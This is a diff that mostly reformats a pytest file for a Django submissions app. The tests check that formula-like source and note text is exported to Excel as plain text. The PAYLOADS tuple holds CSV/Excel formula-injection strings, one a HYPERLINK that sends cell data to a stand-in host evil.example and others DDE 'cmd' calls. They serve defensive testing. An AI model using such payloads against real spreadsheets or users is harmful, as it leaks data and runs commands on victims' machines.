@@ -32,7 +32,11 @@ from planwatch_web.submissions.validation import ValueInput
 pytestmark = pytest.mark.django_db
 
 LINES = ("scale_enterprises:level", "new_scale_enterprises:ytd", "county_sci_parks:level")
-PAYLOADS = ('HYPERLINK("http://evil.example/?x="&A1,"点这里")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|'/C calc'!A0")
+PAYLOADS = (
+    'HYPERLINK("http://evil.example/?x="&A1,"点这里")',
+    "cmd|' /C calc'!A0",
+    "SUM(1+1)*cmd|'/C calc'!A0",
+)
 INJECTIONS = [t + p for t, p in itertools.product(FORMULA_TRIGGERS, PAYLOADS)]
 
 
@@ -56,7 +60,9 @@ def _page_fields(client: Client, sub: Submission) -> dict[str, str]:
     return parser.fields
 
 
-def _fill(user: User, sub: Submission, values: tuple[float, float, float], source: str, note: str = "") -> None:
+def _fill(
+    user: User, sub: Submission, values: tuple[float, float, float], source: str, note: str = ""
+) -> None:
     sub.refresh_from_db()
     actions.do_save_values(
         user,
@@ -98,7 +104,9 @@ def test_every_formula_like_source_and_note_comes_back_as_text_in_the_template(
         data = _template(client, sub)
         sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
         assert "<f>" not in sheet_xml and "<f " not in sheet_xml, text  # no formula anywhere in the sheet
-        ws = openpyxl.load_workbook(io.BytesIO(data)).active  # formulas are kept as formulas when not data_only
+        ws = openpyxl.load_workbook(
+            io.BytesIO(data)
+        ).active  # formulas are kept as formulas when not data_only
         for row in (2, 3, 4):
             for column in ("G", "H"):  # 来源, 备注
                 cell = ws[f"{column}{row}"]
@@ -142,7 +150,9 @@ def test_posting_the_page_back_unchanged_changes_nothing(
     before, audits = _stored(sub), AuditEntry.objects.count()
     fields = _page_fields(client, sub)
     assert fields["s__scale_enterprises:level"] == source  # the box is pre-filled
-    response = client.post(reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"}, follow=True)
+    response = client.post(
+        reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"}, follow=True
+    )
     assert "没有需要保存的修改" in response.content.decode()
     assert _stored(sub) == before and AuditEntry.objects.count() == audits
 
@@ -170,7 +180,9 @@ def test_a_changed_or_emptied_source_is_saved_and_shown_in_the_history(
     fields = _page_fields(client, sub)
     fields["s__scale_enterprises:level"] = "县统计局快报"
     fields["s__county_sci_parks:level"] = ""  # emptied: the documented default
-    response = client.post(reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"}, follow=True)
+    response = client.post(
+        reverse("submissions:detail", args=[sub.pk]), {**fields, "action": "save"}, follow=True
+    )
     page = response.content.decode()
     assert "已保存 2 项修改" in page
     stored = _stored(sub)
@@ -242,7 +254,10 @@ def test_emptying_a_box_still_removes_its_value(
 
 @pytest.mark.parametrize("left_out", [c for n in (1, 2, 3) for c in itertools.combinations(LINES, n)])
 def test_a_post_that_leaves_out_lines_keeps_them(
-    login: Callable[[str], Client], users: dict[str, User], subs: dict[str, Submission], left_out: tuple[str, ...]
+    login: Callable[[str], Client],
+    users: dict[str, User],
+    subs: dict[str, Submission],
+    left_out: tuple[str, ...],
 ) -> None:
     client, sub = login("jishou"), subs["jishou"]
     _fill(users["jishou"], sub, (48.0, 6.0, 1.0), source="县统计局")
@@ -294,7 +309,9 @@ def test_last_year_shows_the_approved_value_of_the_same_period(
     assert '<td class="num">44</td>' in page  # 2024Q3's approved 规模工业企业数
 
 
-def test_last_year_falls_back_to_the_plans_own_figure(login: Callable[[str], Client], users: dict[str, User]) -> None:
+def test_last_year_falls_back_to_the_plans_own_figure(
+    login: Callable[[str], Client], users: dict[str, User]
+) -> None:
     period = actions.do_open_period(users["admin"], "2021", scopes=["xiangxi"])
     sub = Submission.objects.get(period=period, scope_id="xiangxi")
     from planwatch.domain.periods import Period
